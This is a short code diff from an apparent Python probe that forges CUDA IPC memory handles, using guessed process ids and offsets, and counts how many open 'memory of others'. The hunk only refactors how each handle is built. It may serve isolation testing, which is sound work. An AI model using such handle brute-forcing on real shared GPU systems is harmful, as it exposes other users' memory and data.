@@ -31,9 +31,8 @@ def guess(a):
             changed[8:12] = (os.getpid() + 1).to_bytes(4, "little")
             changed[48:52], changed[52:56] = number.to_bytes(4, "little"), other.to_bytes(4, "little")
             pointer = ctypes.c_uint64()
-            given = (ctypes.c_ubyte * 64)(*changed)
             tried += 1
-            opened += driver.cuIpcOpenMemHandle_v2(ctypes.byref(pointer), _Handle(given), ctypes.c_uint(1)) == 0
+            opened += driver.cuIpcOpenMemHandle_v2(ctypes.byref(pointer), _Handle.from_buffer_copy(changed), ctypes.c_uint(1)) == 0
     print(f"tried {tried}, opened {'memory of others' if opened else 'nothing'}", flush=True)
 
 
